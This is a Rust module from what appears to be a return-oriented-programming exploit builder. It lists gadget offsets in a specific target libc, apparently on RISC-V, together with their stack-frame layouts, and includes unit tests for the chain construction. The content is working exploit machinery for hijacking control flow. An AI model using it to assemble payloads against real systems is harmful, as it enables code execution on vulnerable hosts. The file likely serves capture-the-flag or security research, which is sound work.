//! Single gadgets found in the target libc.
//!
//! Every gadget restores some registers from its stack frame, pops the frame
//! and returns through `ra`. `frame` lays those words out; the last word of
//! a non-empty frame is always the next return address.

use crate::error::ChainError;
use crate::layout::LIBC_BASE;

/// Value that will be filled in once the chain has been placed.
pub type Slot = Option<u64>;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Primitive {
    Nop,
    PopA0 { a0: Slot },
    PopS0 { s0: Slot },
    /// a0 += 1, also pops s0.
    Add1A0 { s0: u64 },
    /// a0 -= 2.
    Dec2A0,
    /// a5 = [s0], bails unless the popped a4 matches it.
    LdA5S0 { a4: u64, s0: u64 },
    /// a0 = [a0 + 8] + a5.
    LdA0Off8A0 { a4: u64, s0: u64 },
    /// [s0 + 0x10] = a0, then pops the next s0.
    SdA0Off10S0 { s0: u64 },
    /// Zeroed words, never executed.
    Spacer { words: usize },
    /// a5 = popped value; clobbers a0.
    PopA5 { a5: u64 },
    /// Calls a5, needs s0 + 0x50 writable.
    CallA5 { s0: u64 },
    /// glibc `__longjmp(a0)`; consumes no frame.
    Longjmp,
    /// a0 = (a0 == 0).
    SeqzA0,
    PopS0S1S2 { s0: u64, s1: u64, s2: u64 },
    /// a5 += a0.
    AddA5A0 { s0: u64, s1: u64, s2: u64, s3: u64 },
    /// a0 += a5.
    AddA0A5,
}

impl Primitive {
    fn offset(&self) -> u64 {
        match self {
            Primitive::Nop => 0x97a68,
            Primitive::PopA0 { .. } => 0x58d9e,
            Primitive::PopS0 { .. } => 0x5c172,
            Primitive::Add1A0 { .. } => 0x6dc7e,
            Primitive::Dec2A0 => 0x6437e,
            Primitive::LdA5S0 { .. } => 0xa4ac8,
            Primitive::LdA0Off8A0 { .. } => 0xd3230,
            Primitive::SdA0Off10S0 { .. } => 0xd30de,
            Primitive::Spacer { .. } => 0,
            Primitive::PopA5 { .. } => 0x2d9d6,
            Primitive::CallA5 { .. } => 0xb95d4,
            Primitive::Longjmp => 0x325b4,
            Primitive::SeqzA0 => 0xd1ad6,
            Primitive::PopS0S1S2 { .. } => 0xa3b34,
            Primitive::AddA5A0 { .. } => 0x60f40,
            Primitive::AddA0A5 => 0xa91c0,
        }
    }

    pub fn entry(&self) -> u64 {
        match self {
            Primitive::Spacer { .. } => 0,
            _ => LIBC_BASE + self.offset(),
        }
    }

    /// Frame length in words.
    pub fn words(&self) -> usize {
        match self {
            Primitive::Longjmp => 0,
            Primitive::Nop
            | Primitive::PopS0 { .. }
            | Primitive::Add1A0 { .. }
            | Primitive::Dec2A0
            | Primitive::SdA0Off10S0 { .. }
            | Primitive::CallA5 { .. }
            | Primitive::SeqzA0 => 2,
            Primitive::PopA0 { .. } | Primitive::PopA5 { .. } | Primitive::PopS0S1S2 { .. } => 4,
            Primitive::AddA5A0 { .. } => 6,
            Primitive::LdA0Off8A0 { .. } => 8,
            Primitive::AddA0A5 => 10,
            Primitive::LdA5S0 { .. } => 12,
            Primitive::Spacer { words } => *words,
        }
    }

    pub fn size(&self) -> u64 {
        self.words() as u64 * 8
    }

    /// Append this gadget's frame, returning into `ra`.
    pub fn frame(&self, ra: u64, out: &mut Vec<u64>) -> Result<(), ChainError> {
        let resolve = |slot: &Slot| slot.ok_or(ChainError::UnresolvedSlot);
        match self {
            Primitive::Nop | Primitive::Dec2A0 | Primitive::SeqzA0 => out.extend([0, ra]),
            Primitive::PopA0 { a0 } => out.extend([0, resolve(a0)?, 0, ra]),
            Primitive::PopS0 { s0 } => out.extend([resolve(s0)?, ra]),
            Primitive::Add1A0 { s0 }
            | Primitive::SdA0Off10S0 { s0 }
            | Primitive::CallA5 { s0 } => out.extend([*s0, ra]),
            Primitive::LdA5S0 { a4, s0 } => {
                out.extend([0; 9]);
                out.extend([*a4, *s0, ra]);
            }
            Primitive::LdA0Off8A0 { a4, s0 } => {
                out.extend([0; 5]);
                out.extend([*a4, *s0, ra]);
            }
            Primitive::Spacer { words } => out.extend(std::iter::repeat(0).take(*words)),
            Primitive::PopA5 { a5 } => out.extend([0, *a5, 0, ra]),
            Primitive::Longjmp => {}
            Primitive::PopS0S1S2 { s0, s1, s2 } => out.extend([*s2, *s1, *s0, ra]),
            Primitive::AddA5A0 { s0, s1, s2, s3 } => out.extend([0, *s3, *s2, *s1, *s0, ra]),
            Primitive::AddA0A5 => {
                out.extend([0; 9]);
                out.push(ra);
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all() -> Vec<Primitive> {
        vec![
            Primitive::Nop,
            Primitive::PopA0 { a0: Some(1) },
            Primitive::PopS0 { s0: Some(1) },
            Primitive::Add1A0 { s0: 1 },
            Primitive::Dec2A0,
            Primitive::LdA5S0 { a4: 1, s0: 2 },
            Primitive::LdA0Off8A0 { a4: 1, s0: 2 },
            Primitive::SdA0Off10S0 { s0: 1 },
            Primitive::Spacer { words: 3 },
            Primitive::PopA5 { a5: 1 },
            Primitive::CallA5 { s0: 1 },
            Primitive::Longjmp,
            Primitive::SeqzA0,
            Primitive::PopS0S1S2 { s0: 1, s1: 2, s2: 3 },
            Primitive::AddA5A0 { s0: 1, s1: 2, s2: 3, s3: 4 },
            Primitive::AddA0A5,
        ]
    }

    #[test]
    fn frames_match_declared_size() {
        for p in all() {
            let mut out = Vec::new();
            p.frame(0xaaaa, &mut out).unwrap();
            assert_eq!(out.len(), p.words(), "{p:?}");
        }
    }

    #[test]
    fn return_address_is_last_word() {
        for p in all() {
            if matches!(p, Primitive::Spacer { .. } | Primitive::Longjmp) {
                continue;
            }
            let mut out = Vec::new();
            p.frame(0xaaaa, &mut out).unwrap();
            assert_eq!(out.last(), Some(&0xaaaa), "{p:?}");
        }
    }

    #[test]
    fn register_order_in_frames() {
        let mut out = Vec::new();
        Primitive::PopS0S1S2 { s0: 1, s1: 2, s2: 3 }.frame(9, &mut out).unwrap();
        assert_eq!(out, [3, 2, 1, 9]);

        out.clear();
        Primitive::LdA5S0 { a4: 7, s0: 8 }.frame(9, &mut out).unwrap();
        assert_eq!(&out[9..], &[7, 8, 9]);
    }

    #[test]
    fn unresolved_slot_is_an_error() {
        let mut out = Vec::new();
        let err = Primitive::PopA0 { a0: None }.frame(0, &mut out).unwrap_err();
        assert!(matches!(err, ChainError::UnresolvedSlot));
    }

    #[test]
    fn entries_are_rebased() {
        assert_eq!(Primitive::Nop.entry(), 0x3f_f7ea_1000 + 0x97a68);
        assert_eq!(Primitive::Spacer { words: 1 }.entry(), 0);
    }
}
